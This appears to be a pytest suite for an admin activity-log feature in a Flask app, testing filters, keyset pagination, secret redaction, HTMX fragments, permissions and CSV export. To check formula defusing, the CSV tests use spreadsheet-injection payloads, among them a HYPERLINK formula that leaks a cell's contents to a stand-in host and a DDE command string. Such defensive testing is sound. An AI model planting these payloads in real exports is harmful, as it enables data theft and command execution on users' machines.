"""Admin → Activity: search and filters, keyset pages, row details, CSV export, fragments, permissions."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from html import unescape
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import event as sa_event

from collectz.extensions import db
from collectz.models import ActivityLog, Invite, User
from collectz.models.base import utcnow
from collectz.security.tokens import hash_token
from collectz.services import audit
from tests.conftest import Actors, activity

T0 = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)
MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def add_event(app: Flask, action: str, *, actor: str | None = None, when: datetime | None = None,
              **kwargs: Any) -> int:
    """Write one event through the audit service (as the app does), optionally back-dated."""
    with app.app_context():
        user = db.session.scalar(db.select(User).where(User.name == actor.title())) if actor else None
        entry = audit.record(action, actor=user, **kwargs)
        if when is not None:
            entry.created_at = when
        db.session.commit()
        return entry.id


def seed(app: Flask) -> dict[str, int]:
    """A small, varied log: successes, refusals, a server error, a redirect, on three different days."""
    ids = {
        "created": add_event(app, "media.created", actor="bob", entity_type="media", entity_id=41, when=T0,
                             details={"title": "Blade Runner", "media_type": "movie"}),
        "updated": add_event(app, "media.updated", actor="carol", entity_type="media", entity_id=42,
                             when=T0 + timedelta(days=1),
                             details={"changed": {"title": {"from": "Amelie", "to": "Amélie"}}}),
        "denied": add_event(app, "permission.denied", actor="vera", status="failed", http_status=403,
                            reason="Your account is read-only: you cannot add items.",
                            when=T0 + timedelta(days=1, hours=1),
                            details={"method": "POST", "path": "/library/media/new"}),
        "login_failed": add_event(app, "auth.login_failed", status="failed", entity_type="user", entity_id=7,
                                  reason="bad_credentials", when=T0 + timedelta(days=2),
                                  details={"email": "mallory@example.org"}),
        "server_error": add_event(app, "http.request", actor="bob", status="failed", http_status=503,
                                  when=T0 + timedelta(days=2, hours=1),
                                  details={"method": "GET", "path": "/library/", "status": 503}),
        "redirect": add_event(app, "http.request", actor="alice", http_status=303, when=T0 + timedelta(days=2, hours=2),
                              details={"method": "POST", "path": "/admin/flags/import_csv", "status": 303}),
    }
    return ids


def shown_ids(resp: Any) -> list[int]:
    return [int(m) for m in re.findall(r'id="event-(\d+)"', resp.get_data(as_text=True))]


@pytest.fixture
def alice(actors: Actors):
    return actors.client("alice")


@pytest.fixture
def ids(app: Flask, actors: Actors) -> dict[str, int]:
    return seed(app)


# (query, the seeded events it shows, newest first). One test walks the table: each case is one request.
FILTER_CASES = [
    ({}, ["redirect", "server_error", "login_failed", "denied", "updated", "created"]),
    ({"q": "blade runner"}, ["created"]),  # in the JSON details, case-insensitive
    ({"q": "AMÉLIE"}, ["updated"]),  # non-ASCII text inside the JSON details
    ({"q": "read-only"}, ["denied"]),  # the reason
    ({"q": "mallory"}, ["login_failed"]),  # the email a failed sign-in tried (details)
    ({"q": "carol@"}, ["updated"]),  # the actor's email
    ({"q": "login_"}, ["login_failed"]),  # the action; "_" is a literal, not a LIKE wildcard
    ({"q": "%"}, []),  # a literal percent sign matches nothing here
    ({"q": "42"}, ["updated"]),  # the entity id
    ({"action": "http.request"}, ["redirect", "server_error"]),
    ({"entity": "media"}, ["updated", "created"]),
    ({"user": "BOB@example.org"}, ["server_error", "created"]),
    ({"status": "2xx"}, ["updated", "created"]),  # no http_status and ok → 2xx
    ({"status": "3xx"}, ["redirect"]),
    ({"status": "4xx"}, ["login_failed", "denied"]),  # a 403, and a failure without http_status
    ({"status": "5xx"}, ["server_error"]),
    ({"from": "2025-03-12"}, ["redirect", "server_error", "login_failed"]),
    ({"to": "2025-03-10"}, ["created"]),  # the whole end day is included
    ({"from": "2025-03-11", "to": "2025-03-11"}, ["denied", "updated"]),
    ({"q": "library", "status": "4xx", "from": "2025-03-11"}, ["denied"]),
    ({"user": "bob@example.org", "entity": "media", "to": "2025-03-11"}, ["created"]),
    ({"action": "http.request", "user": "alice@example.org", "status": "5xx"}, []),
]


def test_each_filter_alone_and_combined(alice, ids):
    by_id = {v: k for k, v in ids.items()}
    wrong = []
    for query, expected in FILTER_CASES:
        resp = alice.get("/admin/activity", query_string=query)
        got = [by_id.get(i, i) for i in shown_ids(resp)]
        if resp.status_code != 200 or got != expected:
            wrong.append(f"{query}: {resp.status_code} {got}, expected {expected}")
    assert not wrong, "\n".join(wrong)


def test_search_finds_non_ascii_text_in_details_written_either_way(app: Flask, alice) -> None:
    """Events recorded before JSON columns were written by orjson hold "é" as "\\u00e9" in their details' text; newer
    ones hold it as it is (and a quote as \\" in both): a search finds both, whatever its case."""
    new = add_event(app, "media.updated", entity_type="media", entity_id=1, when=T0,
                    details={"to": 'Amélie "Poulain"'})
    old = add_event(app, "media.updated", entity_type="media", entity_id=2, when=T0 + timedelta(hours=1))
    with app.app_context():
        db.session.execute(db.update(ActivityLog).where(ActivityLog.id == old).values(
            details=db.literal_column("'{\"to\": \"Am\\u00e9lie \\\"Poulain\\\"\"}'")))
        db.session.commit()
        text_of = db.text("SELECT CAST(details AS TEXT) FROM activity_log WHERE id = :i")
        assert "Am\\u00e9lie" in db.session.execute(text_of, {"i": old}).scalar()
        assert "Amélie" in db.session.execute(text_of, {"i": new}).scalar()
    for q in ("AMÉLIE", "amélie", 'lie "poulain"'):
        assert sorted(shown_ids(alice.get("/admin/activity", query_string={"q": q}))) == sorted([new, old]), q


def test_filters_are_reflected_in_the_form_and_every_link(alice, ids):
    query = {"q": "blade", "entity": "media", "status": "2xx", "from": "2025-03-01", "to": "2025-03-31"}
    html = unescape(alice.get("/admin/activity", query_string=query).get_data(as_text=True))

    assert 'name="q" value="blade"' in html
    assert '<option value="media" selected>' in html and '<option value="2xx" selected>' in html
    assert 'name="from" value="2025-03-01"' in html and 'name="to" value="2025-03-31"' in html
    export = re.search(r'href="(/admin/activity\.csv[^"]*)"', html).group(1)
    assert all(f"{k}={v}" in export for k, v in query.items())
    assert 'hx-push-url="true"' in html and 'method="get"' in html


def test_a_row_opens_to_its_details_ip_and_request_id(app, alice, actors: Actors):
    bob = actors.client("vera")
    bob.post("/library/media/new", data={"title": "x"}, headers={"X-Request-ID": "req-abcdef123"})
    [denied] = activity(app, "permission.denied")

    html = alice.get("/admin/activity", query_string={"action": "permission.denied"}).get_data(as_text=True)
    row = html[html.index(f'id="event-{denied.id}"'):]
    row = row[:row.index("</li>")]

    assert "<details>" in row and "<summary>" in row
    summary = row[:row.index("</summary>")]
    assert "permission.denied" in summary and "vera@example.org" in summary and "403" in summary
    assert "Your account is read-only: you cannot add items." in summary
    assert "POST /library/media/new" in summary
    assert "127.0.0.1" in row and "req-abcdef123" in row
    assert "&#34;endpoint&#34;: &#34;library.media_new&#34;" in row


def test_secrets_in_details_are_never_shown(app, alice):
    with app.app_context():  # an event written without the audit service (say, by an old version)
        db.session.add(ActivityLog(action="integration.saved", details={"api_key": "s3cret-key", "token": "tok-123",
                                                                        "provider": "tmdb"}))
        db.session.commit()

    page = alice.get("/admin/activity").get_data(as_text=True)
    export = alice.get("/admin/activity.csv").get_data(as_text=True)

    for body in (page, export):
        assert "s3cret-key" not in body and "tok-123" not in body
        assert "[redacted]" in body and "tmdb" in body


def test_failure_events_say_what_who_which_entity_why_and_where(app, alice, actors: Actors):
    vera = actors.client("vera")
    vera.post("/library/media/new", data={"title": "x"})  # permission.denied
    vera.post("/auth/profile", data={"name": "V"}, csrf=False)  # security.csrf_failed
    anonymous = app.test_client()
    anonymous.post("/auth/login", data={"email": "bob@example.org", "password": "wrong password"})
    with app.app_context():
        invite = Invite(email="zed@example.org", token_hash=hash_token("used-token"), role="user",
                        expires_at=utcnow() + timedelta(days=1), used_at=utcnow())
        db.session.add(invite)
        db.session.commit()
        invite_id = invite.id
    anonymous.post("/auth/register", data={"email": "zed@example.org", "name": "Zed", "password": "long enough pw",
                                           "invite": "used-token"})
    for _ in range(6):  # LOGIN_LIMIT_PER_ACCOUNT is 5 per minute
        anonymous.post("/auth/login", data={"email": "carol@example.org", "password": "wrong password"})

    def summary(action: str, q: str = "") -> str:
        html = alice.get("/admin/activity", query_string={"action": action, "q": q}).get_data(as_text=True)
        assert 'data-action="' + action + '"' in html, action
        start = html.index('data-action="' + action + '"')
        return unescape(html[start:html.index("</summary>", start)])

    denied = summary("permission.denied")
    assert all(s in denied for s in ("vera@example.org", "403", "read-only", "POST /library/media/new"))
    csrf_failed = summary("security.csrf_failed")
    assert all(s in csrf_failed for s in ("vera@example.org", "403", "CSRF", "POST /auth/profile"))
    login_failed = summary("auth.login_failed", "bob@")
    assert all(s in login_failed for s in ("anonymous (as bob@example.org)", f"user {actors.ids['bob']}",
                                           "bad_credentials"))
    claim_failed = summary("invite.claim_failed")
    assert all(s in claim_failed for s in ("anonymous (as zed@example.org)", f"invite {invite_id}", "used"))
    rate_limited = summary("security.rate_limited")
    assert all(s in rate_limited for s in ("429", "per", "POST /auth/login"))


def test_keyset_pages_neither_repeat_nor_skip_rows(app, alice, actors: Actors):
    with app.app_context():
        # 130 events, many sharing one timestamp, so only (created_at, id) orders them.
        for i in range(130):
            db.session.add(ActivityLog(action="media.created", entity_type="media", entity_id=str(i),
                                       created_at=T0 + timedelta(seconds=i // 7), details={"n": i}))
        db.session.commit()
        expected = [e.id for e in db.session.scalars(
            db.select(ActivityLog).order_by(ActivityLog.created_at.desc(), ActivityLog.id.desc()))]

    seen: list[int] = []
    url = "/admin/activity?entity=media"
    pages = 0
    while url:
        resp = alice.get(url)
        assert resp.status_code == 200
        seen += shown_ids(resp)
        pages += 1
        if pages == 1:  # events written while someone reads do not shift the next page
            add_event(app, "media.created", entity_type="media", entity_id=999, when=T0 + timedelta(days=30))
        match = re.search(r'href="([^"]+)"[^>]*rel="next"', resp.get_data(as_text=True))
        url = unescape(match.group(1)) if match else None
        if url:
            assert "entity=media" in url and "after=" in url

    assert pages == 3
    assert seen == expected


def test_a_broken_page_link_or_filter_is_422_with_a_message(alice, ids):
    broken = alice.get("/admin/activity?after=yesterday")
    bad = alice.get("/admin/activity", query_string={"from": "2025-13-40", "to": "2025-01-01", "status": "6xx"})
    backwards = alice.get("/admin/activity", query_string={"from": "2025-03-12", "to": "2025-03-11"},
                          headers={"HX-Request": "true"})

    assert broken.status_code == 422 and "This page link is broken" in broken.get_data(as_text=True)
    html = bad.get_data(as_text=True)
    assert bad.status_code == 422 and "Use a date like 2025-01-31." in html and "Choose a status class" in html
    assert shown_ids(bad) == [] and 'value="2025-13-40"' in html
    assert backwards.status_code == 422 and "The end date is before the start date." in backwards.get_data(
        as_text=True)
    assert "<html" not in backwards.get_data(as_text=True)
    assert alice.get("/admin/activity.csv?from=nope").status_code == 422


def test_full_page_and_htmx_fragment(alice, ids):
    page = alice.get("/admin/activity?q=blade")
    fragment = alice.get("/admin/activity?q=blade", headers={"HX-Request": "true"})
    boosted = alice.get("/admin/activity?q=blade", headers={"HX-Request": "true", "HX-Boosted": "true"})

    for resp in (page, fragment, boosted):
        assert resp.status_code == 200 and "HX-Request" in resp.headers["Vary"]
        assert shown_ids(resp) == [ids["created"]]
    html = page.get_data(as_text=True)
    assert "<html" in html and '<div id="admin-tab">' in html
    assert re.search(r'aria-current="page"[^>]*>\s*Activity\s*</a>', html)
    frag = fragment.get_data(as_text=True)
    assert "<html" not in frag and 'id="admin-tab"' not in frag
    assert 'id="activity-heading"' in frag and 'hx-target="#admin-tab"' in frag
    assert "<html" in boosted.get_data(as_text=True)


def test_csv_export_has_the_filtered_rows_and_defuses_formulas(app, alice, ids):
    add_event(app, "media.updated", actor="bob", entity_type="media", entity_id=43, when=T0 + timedelta(days=3),
              reason=MALICIOUS, details={"note": "=cmd|' /C calc'!A0", "title": "+SUM(1,2)"})
    add_event(app, "media.deleted", actor="bob", entity_type="media", entity_id="@evil", when=T0 + timedelta(days=3),
              reason="-2+3", details={})
    add_event(app, "media.deleted", actor="bob", entity_type="media", entity_id=44, when=T0 + timedelta(days=3),
              reason="\tTabbed", details={})

    resp = alice.get("/admin/activity.csv", query_string={"user": "bob@example.org", "entity": "media"})

    assert resp.status_code == 200 and resp.is_streamed
    assert resp.mimetype == "text/csv"
    assert re.match(r'attachment; filename="collectz-activity-\d{8}-\d{6}\.csv"', resp.headers["Content-Disposition"])
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert [r["action"] for r in rows] == ["media.deleted", "media.deleted", "media.updated", "media.created"]
    assert {r["actor_email"] for r in rows} == {"bob@example.org"}
    by_reason = {r["reason"]: r for r in rows}
    assert "'" + MALICIOUS in by_reason and "'-2+3" in by_reason and "'\tTabbed" in by_reason
    assert any(r["entity_id"] == "'@evil" for r in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    malicious = by_reason["'" + MALICIOUS]
    assert malicious["details"].startswith("{") and "=cmd" in malicious["details"]
    created = rows[-1]
    assert created["created_at"] == "2025-03-10T12:00:00Z" and created["entity_id"] == "41"
    assert '"title": "Blade Runner"' in created["details"]


def test_csv_export_streams_every_batch_and_is_audited(app, alice):
    with app.app_context():
        db.session.add_all(ActivityLog(action="bulk.event", created_at=T0, details={"i": i}) for i in range(1203))
        db.session.commit()

    resp = alice.get("/admin/activity.csv?action=bulk.event")

    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert len(rows) == 1203 and len({r["details"] for r in rows}) == 1203
    [exported] = activity(app, "activity.exported")
    assert exported.actor_id is not None and exported.details == {"filters": {"action": "bulk.event"}}


def test_only_admins_read_or_export_the_log(app, actors: Actors, ids):
    for name in ("bob", "vera"):
        client = actors.client(name)
        for url in ("/admin/activity", "/admin/activity.csv"):
            resp = client.get(url)
            assert resp.status_code == 403 and b"data-error-message" in resp.data
    anonymous = app.test_client().get("/admin/activity.csv")
    assert anonymous.status_code == 303 and anonymous.headers["Location"].startswith("/auth/login")
    denied_paths = [e.details["path"] for e in activity(app, "permission.denied") if e.id > max(ids.values())]
    assert sorted(denied_paths) == sorted(["/admin/activity", "/admin/activity.csv"] * 2)
    assert activity(app, "activity.exported") == []


def count_queries(app: Flask, client: Any, url: str) -> int:
    statements: list[str] = []

    def count(conn, cursor, statement, *args):  # noqa: ANN001
        statements.append(statement)

    with app.app_context():
        engine = db.engine
    sa_event.listen(engine, "before_cursor_execute", count)
    try:
        assert client.get(url).status_code == 200
    finally:
        sa_event.remove(engine, "before_cursor_execute", count)
    return len(statements)


def test_the_list_query_count_stays_flat_as_rows_grow(app, alice, ids):
    few = count_queries(app, alice, "/admin/activity?entity=media")
    with app.app_context():
        db.session.add_all(ActivityLog(action="media.created", entity_type="media", entity_id=str(i),
                                       actor_id=None, details={"i": i}) for i in range(80))
        db.session.commit()
    many = count_queries(app, alice, "/admin/activity?entity=media")

    assert many == few
